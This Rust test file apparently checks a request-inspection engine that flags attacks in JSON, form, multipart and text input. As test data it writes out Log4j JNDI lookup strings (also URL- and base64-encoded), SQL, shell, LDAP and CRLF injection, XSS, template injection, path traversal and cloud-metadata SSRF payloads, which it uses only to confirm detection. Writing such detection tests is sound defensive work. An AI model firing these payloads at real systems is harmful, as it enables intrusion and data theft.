//! Tests of the engine as a whole.
use proptest::prelude::*;

mod agree;

use super::*;
use crate::family::Family;
use crate::work::SCAN_WORK;

/// The findings in a document, as `family at`.
fn in_json(json: &str) -> Vec<String> {
    let mut findings = Vec::new();
    let mut work = Work::new(SCAN_WORK);
    let mut found = |finding: Finding| findings.push(format!("{} {}", finding.family, finding.at));
    inspect_json(json.as_bytes(), Families::ALL, &mut work, &mut found).unwrap();
    findings
}

fn lookup(json: &str) -> Vec<String> {
    in_json(json).into_iter().filter(|finding| finding.starts_with("log4j")).collect()
}

#[test]
fn a_pointer_leads_to_the_string() {
    for (json, at) in [
        (r#""${jndi:ldap://a}""#, ""),
        (r#"{"a":{"b":["x",{"c":"${jndi:ldap://a}"}]}}"#, "/a/b/1/c"),
        (r#"["${jndi:ldap://a}"]"#, "/0"),
        (r#"{"a":"x","${jndi:ldap://a}":1}"#, "/*"),
        (r#"{"a":"\u0024{jndi\u003aldap://a}"}"#, "/a"),
        (r#"{"a":"\"\\\"","b":"\\","c" : "\"${jndi:ldap://a}\\"}"#, "/c"),
        (r#"{"a":"{\"b\":[1,\"${jndi:ldap://a}\"]}"}"#, "/a/b/1"),
        (r#"{"a":"{\"b\":\"[\\\"${jndi:ldap://a}\\\"]\"}"}"#, "/a/b/0"),
        (r#"{"a":"%24%7Bjndi%3Aldap%3A%2F%2Fa%7D"}"#, "/a"),
        (r#"{"a":"%2524%257Bjndi%253Aldap%253A%252F%252Fa%257D"}"#, "/a"),
        (r#"{"a":"JHtqbmRpOmxkYXA6Ly9hfQ=="}"#, "/a"),
    ] {
        assert_eq!(lookup(json), [format!("log4j {at}")], "{json}");
    }
}

#[test]
fn a_finding_stands_once_for_a_string_and_for_each_string() {
    let json = r#"{"a":"${jndi:ldap://a} ${jndi:ldap://b}","b":["${jndi:ldap://a}"]}"#;
    assert_eq!(lookup(json), ["log4j /a", "log4j /b/0"]);
}

#[test]
fn nothing_hides_in_a_long_string_or_behind_what_is_no_json() {
    for before in [0, 10, 500, 7_900, 8_170, 8_190, 100_000] {
        for escape in ["", "\\n", "\\\"", "\\\\"] {
            let json =
                format!(r#"{{"a":"{}{escape}${{jndi:ldap://a}} and"}}"#, "x ".repeat(before));
            assert_eq!(lookup(&json), ["log4j /a"], "{before} {escape}");
        }
    }
    assert_eq!(lookup(r"{a: ${jndi:ldap://a}}"), ["log4j "]);
    assert_eq!(lookup(r#"{"a": ${jndi:ldap://a}, "#), ["log4j "]);
}

/// Prose with the marks that the engine passes over.
const PROSE: &str = "The order was shipped on Monday, and it should arrive by the end of the week. \
    \"It is fine,\" she said to them; we wait for it.\nThen the customer called -- the cats' toys \
    were late. We select a supplier where prices are low, in order by date.\n\n- It’s “good”. ";

#[test]
fn nothing_hides_in_prose() {
    let before = PROSE.repeat(20);
    for attack in [
        "x' or 1=1 -- ",
        "1' union select null, version() -- ",
        "1; drop table users",
        "; cat /etc/passwd",
        "x\n/bin/cat /etc/passwd",
        "x.\n/proc/self/environ\n",
        "x\nnet user\n",
        "`id`; $(whoami)",
        "<script>alert(1)</script>",
        "\" onmouseover=alert(1) x=\"",
        "{{7*7}} ${7*7}",
        "${jndi:ldap://example.com/a}",
        "../../../etc/passwd",
        "http://169.254.169.254/latest/",
        "a\u{202e}b",
    ] {
        let json = serde_json::json!({ "a": format!("{before} {attack} {PROSE}") }).to_string();
        assert!(!in_json(&json).is_empty(), "{attack}");
    }
    let json = serde_json::json!({ "a": before.repeat(20) }).to_string();
    assert_eq!(in_json(&json), [""; 0]);
}

#[test]
fn a_megabyte_of_prose_takes_a_fraction_of_the_work() {
    let json = serde_json::json!({ "a": PROSE.repeat(4_000) }).to_string();
    let mut work = Work::new(SCAN_WORK);
    inspect_json(json.as_bytes(), Families::ALL, &mut work, &mut |_| ()).unwrap();
    assert!(SCAN_WORK - work.left() < 5 * json.len() as u64, "{}", SCAN_WORK - work.left());
}

#[test]
fn forms_and_parts_are_named() {
    let at = |finding: Finding| (finding.family == Family::Log4j).then_some(finding.at);
    let mut found = Vec::new();
    let form = b"a=1&b=%24{jndi:ldap://a}&c+d=$%7bjndi:dns://a}&${jndi:ldap://a}";
    let mut work = Work::default();
    inspect_form(form, Families::ALL, &mut work, &mut |f| found.extend(at(f))).unwrap();
    assert_eq!(found, ["/b", "/*", "/*"]);

    let body = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n${jndi:ldap://a}\r\n--x\r\n\
        Content-Disposition: form-data; name=b; filename=\"${jndi:ldap://a}\"\r\n\r\n123\r\n--x--\r\n";
    let mut found = Vec::new();
    inspect_multipart(body.as_bytes(), Families::ALL, &mut work, &mut |f| found.extend(at(f)))
        .unwrap();
    assert_eq!(found, ["/a", "/b"]);
}

#[test]
fn work_ends() {
    let json = format!("[{}1]", "\"<a href='x'>\",".repeat(1000));
    let mut work = Work::new(10_000);
    let done = inspect_json(json.as_bytes(), Families::ALL, &mut work, &mut |_| ());
    assert_eq!(done, Err(Exhausted));
    assert!(work.is_exhausted());
}

/// Pieces that wake families and decoders, in any order.
const PIECES: [&str; 40] = [
    "'",
    "\"",
    "`",
    "<a ",
    "<!",
    "${",
    "{{",
    "}}",
    "%",
    "%2",
    "%25",
    "%u00",
    "&#",
    "&lt;",
    "\\",
    "\\u",
    "\\x4",
    "\n",
    "\r\n",
    "../",
    "..",
    "/etc/",
    "://",
    "=",
    "=cmd|'",
    "--",
    "(",
    ")",
    "*",
    "$",
    "\u{202e}",
    "а",
    "é",
    "union select ",
    "jndi:",
    "a",
    "1",
    " ",
    "{\"a\":",
    "[",
];

fn inspect_all(text: &[u8], role: Role) {
    let mut work = Work::new(10_000_000);
    let mut found = |finding: Finding| assert!(finding.at.len() <= 520);
    let _ = inspect_json(text, Families::ALL, &mut work, &mut found);
    let _ = inspect_text(text, role, Families::ALL, &mut work, &mut found);
    let _ = inspect_form(text, Families::ALL, &mut work, &mut found);
    let _ = inspect_multipart(text, Families::ALL, &mut work, &mut found);
}

fn roles() -> impl Strategy<Value = Role> {
    use Role::{FileName, FreeText, Header, Key, ModelInput, Path, Url, Value};
    prop::sample::select(vec![Key, Value, Header, Path, FileName, Url, FreeText, ModelInput])
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(text in prop::collection::vec(any::<u8>(), 0..300), role in roles()) {
        inspect_all(&text, role);
    }

    #[test]
    fn no_pieces_make_it_panic(
        pieces in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..60),
        role in roles(),
    ) {
        let text = pieces.concat();
        inspect_all(text.as_bytes(), role);
        inspect_all(serde_json::to_string(&text).unwrap().as_bytes(), role);
    }

    #[test]
    fn what_is_found_in_a_text_is_found_in_it_as_a_string_of_json(
        pieces in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..20),
    ) {
        let text = format!("{} ${{jndi:ldap://a}}", pieces.concat());
        let json = serde_json::to_string(&[text]).unwrap();
        prop_assert!(lookup(&json).iter().any(|found| found == "log4j /0"), "{json}");
    }
}

/// Lines of prose, before and after a line that stands out.
const BEFORE: &str = "The committee met in the old town hall.\nIt rained all day long.\n";
const AFTER: &str = "\nIn the end they agreed to meet again.\nNobody was late for dinner.";

#[test]
fn a_line_that_stands_out_among_prose_is_judged_for_itself() {
    for (line, family) in [
        ("*)(uid=*", Family::Ldap),
        ("' or 1=1 --", Family::Sql),
        ("http://127.0.0.1:8080/admin", Family::Ssrf),
        ("/etc/passwd", Family::Path),
        ("en\r\nSet-Cookie: a=b", Family::Crlf),
        ("a@example.com\nBcc: b@example.com", Family::Crlf),
        ("en%0d%0aSet-Cookie:%20a=b", Family::Crlf),
        ("; cat /etc/hosts", Family::Shell),
    ] {
        let text = format!("{BEFORE}{line}{AFTER}");
        let mut found = Families::NONE;
        let mut work = Work::default();
        let mut add = |finding: Finding| found.insert(finding.family);
        inspect_text(text.as_bytes(), Role::Value, Families::ALL, &mut work, &mut add).unwrap();
        assert!(found.contains(family), "{line}");
    }
    for line in [
        "See O'Brien, or 1 of us -- please.",
        "Phone: 555-0100",
        "Check-in: 15:00",
        "A & B (both) = 2",
    ] {
        let text = format!("{BEFORE}{line}{AFTER}");
        let mut work = Work::default();
        let mut add = |finding: Finding| panic!("{line}: {finding:?}");
        inspect_text(text.as_bytes(), Role::Value, Families::ALL, &mut work, &mut add).unwrap();
    }
}
